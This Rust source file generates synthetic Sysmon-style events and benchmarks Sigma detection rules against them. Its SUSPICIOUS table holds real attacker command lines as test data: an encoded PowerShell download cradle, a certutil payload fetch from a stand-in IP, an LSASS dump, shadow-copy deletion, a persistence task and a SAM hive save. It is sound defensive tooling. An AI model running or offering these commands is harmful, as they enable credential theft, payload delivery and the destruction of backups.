//! `rampart bench sysmon-events` and `rampart bench detect`: Sysmon-like
//! NDJSON events that mostly match nothing, and single-threaded rule
//! evaluation over such a file (NDJSON in, verdicts out).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Instant;

use anyhow::Context as _;
use rampart_detect::{load_dir, Document, FieldMapping, Placeholders, RuleSetBuilder, Scratch};
use serde_json::{json, Value};

/// A small deterministic generator (xorshift64*), so every run and every
/// engine sees the same file for the same seed.
pub(crate) struct Rng(pub(crate) u64);

impl Rng {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    pub(crate) fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    pub(crate) fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const HOSTS: &[&str] = &[
    "WS-0142.corp.example",
    "WS-0077.corp.example",
    "SRV-FILE01.corp.example",
    "SRV-SQL02.corp.example",
    "LT-1209.corp.example",
];
const USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "CORP\\svc_backup",
    "NT AUTHORITY\\SYSTEM",
    "NT AUTHORITY\\LOCAL SERVICE",
    "CORP\\carol",
];
/// (image, command line, parent image, original file name, description)
const PROCESSES: &[(&str, &str, &str, &str, &str)] = &[
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe", "svchost.exe", "Host Process for Windows Services"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-GB --num-raster-threads=4", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\System32\\userinit.exe", "EXPLORER.EXE", "Windows Explorer"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", "C:\\Windows\\explorer.exe", "Outlook.exe", "Microsoft Outlook"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\System32\\cmd.exe", "CONHOST.EXE", "Console Window Host"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "C:\\Windows\\System32\\svchost.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService", "C:\\Program Files\\Microsoft VS Code\\Code.exe", "Code.exe", "Visual Studio Code"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646", "C:\\Windows\\System32\\SearchIndexer.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch --prune origin", "C:\\Program Files\\Microsoft VS Code\\Code.exe", "git.exe", "Git for Windows"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "C:\\Windows\\System32\\svchost.exe", "backgroundTaskHost.exe", "Background Task Host"),
];
/// Suspicious process creations, about one event in a hundred.
const SUSPICIOUS: &[(&str, &str, &str, &str)] = &[
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"),
    ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe", "C:\\Windows\\System32\\cmd.exe", "CertUtil.exe"),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full", "C:\\Windows\\System32\\cmd.exe", "RUNDLL32.EXE"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\cmd.exe", "VSSADMIN.EXE"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\update.exe", "C:\\Windows\\System32\\cmd.exe", "schtasks.exe"),
    ("C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Temp\\sam.save", "C:\\Windows\\System32\\cmd.exe", "reg.exe"),
];
const DLLS: &[&str] = &[
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\user32.dll",
    "C:\\Windows\\System32\\combase.dll",
    "C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll",
    "C:\\Windows\\System32\\wininet.dll",
];
const FILES: &[&str] = &["C:\\Users\\alice\\AppData\\Local\\Temp\\tmp4F2A.tmp", "C:\\Users\\bob\\Documents\\Quarterly report.docx", "C:\\Windows\\Prefetch\\CHROME.EXE-5FE9C2D1.pf", "C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_000a1b", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\02\\x"];
const REG_KEYS: &[&str] = &["HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated"];
const DOMAINS: &[&str] = &[
    "www.google.com",
    "outlook.office365.com",
    "update.code.visualstudio.com",
    "github.com",
    "login.microsoftonline.com",
    "ctldl.windowsupdate.com",
];

/// Writes `count` Sysmon-like events (flat Sysmon field names, as rsigma
/// and most converters read them) as NDJSON.
pub fn sysmon_events(count: usize, seed: u64, out: &mut impl Write) -> anyhow::Result<()> {
    let mut rng = Rng(seed.max(1));
    for i in 0..count {
        writeln!(out, "{}", sysmon_event(i, &mut rng))?;
    }
    Ok(())
}

fn sysmon_event(i: usize, rng: &mut Rng) -> Value {
    let host = rng.pick(HOSTS);
    let user = rng.pick(USERS);
    let time = format!(
        "2026-11-20 {:02}:{:02}:{:02}.{:03}",
        (i / 3_600_000) % 24,
        (i / 60_000) % 60,
        (i / 1000) % 60,
        i % 1000
    );
    let pid = 1000 + rng.below(60_000);
    let guid = format!(
        "{{a1b2c3d4-{:04x}-6578-{:04x}-000000001f00}}",
        rng.below(65536),
        rng.below(65536)
    );
    let roll = rng.below(100);
    let (image, _, _, _, _) = PROCESSES[rng.below(PROCESSES.len())];
    let mut event = match roll {
        0 => {
            let (image, cmd, parent, ofn) = SUSPICIOUS[rng.below(SUSPICIOUS.len())];
            json!({"EventID": 1, "Image": image, "CommandLine": cmd, "ParentImage": parent,
                   "OriginalFileName": ofn, "ParentCommandLine": "C:\\Windows\\system32\\cmd.exe",
                   "CurrentDirectory": "C:\\Users\\Public\\", "IntegrityLevel": "High"})
        }
        1..=39 => {
            let (image, cmd, parent, ofn, desc) = PROCESSES[rng.below(PROCESSES.len())];
            json!({"EventID": 1, "Image": image, "CommandLine": cmd, "ParentImage": parent,
                   "OriginalFileName": ofn, "Description": desc, "Company": "Microsoft Corporation",
                   "ParentCommandLine": parent, "CurrentDirectory": "C:\\Windows\\system32\\",
                   "IntegrityLevel": "Medium", "Hashes": format!("SHA256={:016X}{:016X}", rng.next(), rng.next())})
        }
        40..=59 => json!({"EventID": 3, "Image": image, "Protocol": "tcp", "Initiated": "true",
                   "SourceIp": format!("10.1.{}.{}", rng.below(8), rng.below(250)), "SourcePort": 49152 + rng.below(16000),
                   "DestinationIp": format!("203.0.113.{}", rng.below(250)), "DestinationPort": *[443, 80, 53, 445, 8080].get(rng.below(5)).unwrap_or(&443),
                   "DestinationHostname": rng.pick(DOMAINS)}),
        60..=74 => json!({"EventID": 7, "Image": image, "ImageLoaded": rng.pick(DLLS),
                   "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"}),
        75..=84 => json!({"EventID": 11, "Image": image, "TargetFilename": rng.pick(FILES),
                   "CreationUtcTime": time}),
        85..=94 => json!({"EventID": 13, "EventType": "SetValue", "Image": image,
                   "TargetObject": rng.pick(REG_KEYS), "Details": format!("DWORD (0x{:08x})", rng.below(1 << 20))}),
        _ => json!({"EventID": 22, "Image": image, "QueryName": rng.pick(DOMAINS),
                   "QueryStatus": "0", "QueryResults": format!("::ffff:203.0.113.{};", rng.below(250))}),
    };
    if let Some(map) = event.as_object_mut() {
        map.insert(
            "Channel".into(),
            json!("Microsoft-Windows-Sysmon/Operational"),
        );
        map.insert("Computer".into(), json!(host));
        map.insert("User".into(), json!(user));
        map.insert("UtcTime".into(), json!(time));
        map.insert("ProcessGuid".into(), json!(guid));
        map.insert("ProcessId".into(), json!(pid));
    }
    event
}

/// Loads the first `limit` rules (by path) under `dir`.
fn load_rules(dir: &Path, limit: Option<usize>) -> anyhow::Result<Vec<rampart_detect::SigmaRule>> {
    let mut rules = Vec::new();
    for file in load_dir(dir).with_context(|| format!("reading {}", dir.display()))? {
        for doc in file.documents {
            match doc {
                Ok(Document::Rule(rule)) => rules.push(rule),
                Ok(Document::Correlation(c)) => {
                    anyhow::bail!(
                        "{}: {}: correlation rules are not part of this benchmark",
                        file.path.display(),
                        c.title
                    )
                }
                Err(e) => anyhow::bail!("{}: {e}", file.path.display()),
            }
        }
    }
    if let Some(limit) = limit {
        rules.truncate(limit);
    }
    Ok(rules)
}

/// Prints the rules the prefilter lets through most often without their
/// matching (where a sharper literal would help most).
fn print_idle_candidates(set: &rampart_detect::RuleSet, lines: &[&str]) -> anyhow::Result<()> {
    let mut idle = vec![0usize; set.len()];
    let (mut scratch, mut hits) = (Scratch::default(), Vec::new());
    for line in lines {
        let mut read = Ok(());
        if set.prescan(&mut scratch, |walk| read = walk.json_text(line)) {
            read?;
            let candidates = scratch.candidates().to_vec();
            let event: rampart_core::event::Json<'_> = serde_json::from_str(line)?;
            set.evaluate_candidates(&event, &mut scratch, &mut hits);
            for rule in candidates {
                if !hits.contains(&(rule as usize)) {
                    idle[rule as usize] += 1;
                }
            }
        }
    }
    let mut ranked: Vec<(usize, usize)> = idle.into_iter().enumerate().collect();
    ranked.sort_by_key(|r| std::cmp::Reverse(r.1));
    println!("rules evaluated most often without matching:");
    for (rule, count) in ranked.into_iter().take(15).filter(|r| r.1 > 0) {
        println!("  {count:7}  {}", set.rule(rule).title);
    }
    Ok(())
}

/// Single-threaded evaluation of `events` against the rules: each NDJSON
/// line is prescanned as it is read, and parsed into a tree (strings
/// borrowing from the line, as ingest does) only when a rule may match;
/// reports events/s (median of `runs`).
pub fn detect(
    rules_dir: &Path,
    limit: Option<usize>,
    events: &Path,
    runs: usize,
    verdicts: Option<PathBuf>,
) -> anyhow::Result<()> {
    let rules = load_rules(rules_dir, limit)?;
    let started = Instant::now();
    let mut builder = RuleSetBuilder::new(FieldMapping::default(), Placeholders::new());
    for rule in &rules {
        builder
            .add(rule)
            .map_err(|e| anyhow::anyhow!("{}: {e}", rule.title))?;
    }
    let set = builder.build();
    let compile = started.elapsed();
    let text =
        std::fs::read_to_string(events).with_context(|| format!("reading {}", events.display()))?;
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    let mut rates = Vec::new();
    let mut evaluated = 0u64;
    let mut evaluated_events = 0u64;
    let mut matched_events = 0usize;
    let mut matches = 0usize;
    for _ in 0..runs.max(1) {
        let mut scratch = Scratch::default();
        let mut hits = Vec::new();
        let (mut m_events, mut m_total) = (0usize, 0usize);
        let t = Instant::now();
        for line in &lines {
            set.evaluate_json(line, &mut scratch, &mut hits)
                .context("event is not JSON")?;
            m_events += usize::from(!hits.is_empty());
            m_total += hits.len();
        }
        rates.push(lines.len() as f64 / t.elapsed().as_secs_f64());
        evaluated = scratch.evaluated;
        evaluated_events = scratch.evaluated_events;
        (matched_events, matches) = (m_events, m_total);
    }
    rates.sort_by(f64::total_cmp);
    println!(
        "{} rules ({} always evaluated), compiled in {:.0} ms; {} events, {matched_events} matched, {matches} matches",
        set.len(),
        set.unfiltered_rules(),
        compile.as_secs_f64() * 1000.0,
        lines.len()
    );
    println!(
        "prefilter: {} literals ({} automata, {} KiB; routed for {} logsources, {} KiB); rules evaluated per event: {:.2}, on {:.1}% of events",
        set.literal_count(),
        set.prefilter_automata(),
        set.prefilter_bytes() / 1024,
        set.routes().0,
        set.routes().1 / 1024,
        evaluated as f64 / lines.len().max(1) as f64,
        100.0 * evaluated_events as f64 / lines.len().max(1) as f64
    );
    if std::env::var_os("RAMPART_BENCH_FANOUT").is_some() {
        for (literal, rules) in set.literal_fanout().iter().take(25) {
            println!("  {rules:4} rules  {literal:?}");
        }
        print_idle_candidates(&set, &lines)?;
    }
    let median = rates[rates.len() / 2];
    println!(
        "rampart: {median:.0} events/s (median of {} runs; min {:.0}, max {:.0})",
        rates.len(),
        rates[0],
        rates[rates.len() - 1]
    );
    if let Some(path) = verdicts {
        let mut out = std::io::BufWriter::new(std::fs::File::create(&path)?);
        let mut scratch = Scratch::default();
        let mut hits = Vec::new();
        for (n, line) in lines.iter().enumerate() {
            set.evaluate_json(line, &mut scratch, &mut hits)?;
            for &i in &hits {
                writeln!(
                    out,
                    "{}\t{}",
                    n + 1,
                    set.rule(i).id.as_deref().unwrap_or(&set.rule(i).title)
                )?;
            }
        }
    }
    Ok(())
}
